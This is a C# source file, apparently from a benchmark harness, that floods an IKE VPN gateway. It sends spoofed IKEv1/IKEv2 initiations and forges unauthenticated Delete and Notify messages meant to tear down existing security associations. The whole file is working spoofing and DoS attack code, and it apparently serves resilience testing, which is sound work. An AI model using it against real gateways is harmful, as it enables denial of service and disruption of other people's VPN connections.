using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;

namespace Cluster.Bench.Wan;

/// <summary>
/// An attacker who invents initiators: well-formed first messages of both versions, each with a new SPI, from addresses that are nobody's and from
/// those of real IKEv2 peers. Between them real messages again, real answers of the gateway thrown back at it, and deletes and notifies without any
/// proof about the IKE SAs that stand.
/// </summary>
public static class StormSender
{
    public const int HostileEvery = 10;

    /// <summary>198.18.0.0/15, which is for tests of networks (RFC 2544).</summary>
    private const uint NobodysNetwork = 0xC6120000, NobodysHosts = 0x1FFFF;

    /// <summary>One in so many first messages comes from the address of a real peer.</summary>
    private const int FromPeersEvery = 16;

    private const int ResponderSpiAt = 8, VersionAt = 17, ExchangeAt = 18, FlagsAt = 19, FirstFlight = 28;
    private const byte MainMode = 2, AggressiveMode = 4, IkeSaInit = 34;

    public static StormTally Run(StormSettings settings, CancellationToken cancel)
    {
        RealDatagram[] ike = [.. RealDatagram.Read(settings.Pcap, settings.Target).Where(datagram => datagram.Kind == WanKind.Ike)];
        RealDatagram[] first = [.. ike.Where(IsFirst)];
        uint[] peers = [.. first.Where(model => model.Payload[VersionAt] >> 4 == 2).Select(model => Number(model.Peer.Address)).Distinct()];
        if (first.Length == 0 || peers.Length == 0)
        {
            throw new InvalidDataException($"{settings.Pcap} holds no IKE_SA_INIT to {settings.Target}");
        }

        // As many of each kind, however often real peers sent it.
        RealDatagram[][] kinds = [.. first.GroupBy(model => model.Payload[ExchangeAt]).Select(group => group.ToArray())];
        using var sender = new SpoofedUdp(settings.Target);
        var random = new Random(settings.Seed);
        var clock = Stopwatch.StartNew();
        long initiations = 0, hostile = 0;
        for (long n = 0; clock.Elapsed.TotalSeconds < settings.Seconds && !cancel.IsCancellationRequested; n++)
        {
            while (n > clock.Elapsed.TotalSeconds * settings.Rate)
            {
                Thread.Sleep(1);                 // the pace of the attack
            }

            RealDatagram[] kind = kinds[random.Next(kinds.Length)];
            initiations += Initiate(random, kind[random.Next(kind.Length)], peers, sender) ? 1 : 0;
            if (n % HostileEvery == 0)
            {
                // The younger a message, the likelier it is about an IKE SA that stands.
                int depth = random.Next(2) == 0 ? ike.Length : Math.Max(1, ike.Length / 10);
                hostile += Attack(random, ike[^random.Next(1, depth + 1)], sender) ? 1 : 0;
            }
        }

        return new StormTally(initiations, hostile, clock.Elapsed.TotalSeconds);
    }

    private static bool IsFirst(RealDatagram datagram) => !datagram.IsReflected && datagram.MessageAt == 0
        && datagram.Payload[ExchangeAt] is MainMode or AggressiveMode or IkeSaInit && BinaryPrimitives.ReadUInt64BigEndian(datagram.Payload.AsSpan(ResponderSpiAt)) == 0;

    private static bool Initiate(Random random, RealDatagram model, uint[] peers, SpoofedUdp sender)
    {
        model.Payload.CopyTo(sender.Payload);
        random.NextBytes(sender.Payload[..ResponderSpiAt]);
        uint from = random.Next(FromPeersEvery) == 0 ? peers[random.Next(peers.Length)] : NobodysNetwork + (uint)random.Next((int)NobodysHosts);
        return sender.Send(from, (ushort)model.Peer.Port, model.Port, model.Payload.Length);
    }

    private static bool Attack(Random random, RealDatagram model, SpoofedUdp sender)
    {
        Span<byte> payload = sender.Payload;
        model.Payload.CopyTo(payload);
        int length = model.Payload.Length;
        if (random.Next(2) == 0)
        {
            length = model.MessageAt + (payload[model.MessageAt + VersionAt] >> 4 == 1
                ? ForgeVersion1(random, payload[model.MessageAt..])
                : ForgeVersion2(random, payload[model.MessageAt..]));
        }

        return sender.Send(Number(model.Peer.Address), (ushort)model.Peer.Port, model.Port, length);
    }

    /// <summary>An INFORMATIONAL in clear under the SPIs of the model, from either end: a delete of the IKE SA, or an error (RFC 7296 sections 3.10 and 3.11).</summary>
    private static int ForgeVersion2(Random random, Span<byte> message)
    {
        const byte Informational = 37, Delete = 42, Notify = 41, ProtocolIke = 1;
        ReadOnlySpan<ushort> errors = [4, 7, 11, 14, 17, 24];    // INVALID_IKE_SPI, INVALID_SYNTAX, INVALID_SPI, NO_PROPOSAL_CHOSEN, INVALID_KE_PAYLOAD, AUTHENTICATION_FAILED
        bool delete = random.Next(2) == 0;
        message[16] = delete ? Delete : Notify;
        message[ExchangeAt] = random.Next(4) == 0 ? IkeSaInit : Informational;
        message[FlagsAt] = (byte)(random.Next(2) * 0x20 | random.Next(2) * 0x08);
        BinaryPrimitives.WriteInt32BigEndian(message[20..], random.Next(6));
        Span<byte> body = message.Slice(FirstFlight, 8);
        body.Clear();
        body[3] = 8;
        body[4] = delete ? ProtocolIke : (byte)0;
        if (!delete)
        {
            BinaryPrimitives.WriteUInt16BigEndian(body[6..], errors[random.Next(errors.Length)]);
        }

        return Finish(message, FirstFlight + 8);
    }

    /// <summary>The same in IKEv1: a delete of the phase-1 SA, or INVALID-COOKIE and its like, without encryption (RFC 2408 sections 3.14 and 3.15).</summary>
    private static int ForgeVersion1(Random random, Span<byte> message)
    {
        const byte Informational = 5, Delete = 12, Notify = 11, ProtocolIsakmp = 1, SpiSize = 16, Size = 28;
        ReadOnlySpan<ushort> kinds = [4, 11, 14, 24, 28, 24_578]; // INVALID-COOKIE, INVALID-SPI, NO-PROPOSAL-CHOSEN, AUTHENTICATION-FAILED, CERTIFICATE-UNAVAILABLE, INITIAL-CONTACT
        bool delete = random.Next(2) == 0;
        message[16] = delete ? Delete : Notify;
        message[ExchangeAt] = Informational;
        message[FlagsAt] = 0;
        BinaryPrimitives.WriteInt32BigEndian(message[20..], random.Next());
        Span<byte> body = message.Slice(FirstFlight, Size);
        body.Clear();
        (body[3], body[7], body[8], body[9]) = (Size, 1, ProtocolIsakmp, SpiSize);
        BinaryPrimitives.WriteUInt16BigEndian(body[10..], delete ? (ushort)1 : kinds[random.Next(kinds.Length)]);
        message[..SpiSize].CopyTo(body[12..]);
        return Finish(message, FirstFlight + Size);
    }

    private static int Finish(Span<byte> message, int length)
    {
        BinaryPrimitives.WriteInt32BigEndian(message[24..], length);
        return length;
    }

    private static uint Number(IPAddress address)
    {
        Span<byte> bytes = stackalloc byte[4];
        address.TryWriteBytes(bytes, out _);
        return BinaryPrimitives.ReadUInt32BigEndian(bytes);
    }
}
